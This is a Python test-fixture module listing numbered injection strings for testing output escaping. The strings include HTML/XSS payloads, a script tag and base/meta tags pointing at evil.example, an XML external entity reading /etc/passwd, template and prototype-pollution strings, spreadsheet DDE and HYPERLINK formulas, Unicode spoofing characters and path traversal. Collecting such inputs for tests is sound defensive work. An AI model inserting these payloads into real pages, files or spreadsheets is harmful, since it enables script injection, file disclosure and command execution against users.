"""Texts of injection attacks.

Each begins with its number, so that tests can find it, unless its first character is the attack.
"""

_MARKUP = (
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "--><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>tea</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{display:none}</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "</noscript><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<script/src=//evil.example/a.js>",
    "<<script>alert(1)//<</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&amp;amp;quot;&quot;",
    "<br/><b>bold</b><plaintext>",
)
_XML = (
    "]]></content></entry><entry>",
    "<![CDATA[ tea ]]>",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "&nbsp;&unknown;&b;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "</loc></url><url><loc>http://evil.example/",
    "\x01\x08\x0b\x1f control",
    "\ufffe\uffff no characters",
)
_JSON = (
    '"}]}</script><script>alert(1)</script>',
    '","@type":"Organization","name":"',
    '\\"}],"@graph":[{"@type":"Person"',
    "\\u003c/script\\u003e",
    "\u2028alert(1)\u2029",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= 1 %> {% 1 %}",
    "__proto__",
    "$& $` $' $1 \\1",
)
_CELLS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example","tea")',
    "=cmd|' /C calc'!A0",
    'a","b\r\n"c',
    "\tshifted",
)
_WRITING = (
    "\u202egnp.exe\u202c turned",
    "\u2066isolated\u2069 \u200f\u200e",
    "\u200b\u200c\u200d\ufeff hidden",
    "Z" + "\u0300\u0301\u0302\u0303\u0304" * 40,
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿" * 12,
    "\U000e0041\U000e0042 tags",
    "﷽" * 60,
    "\U00020000\U0002a6d6𛀀 rare",
    "a" * 2000,
    "あ" * 1000,
    "../../../../etc/passwd\\..\\..",
)

HOSTILE = tuple(
    f"{number} {text}" if text[0] not in "=+-@\t" else text
    for number, text in enumerate((*_MARKUP, *_XML, *_JSON, *_CELLS, *_WRITING))
)
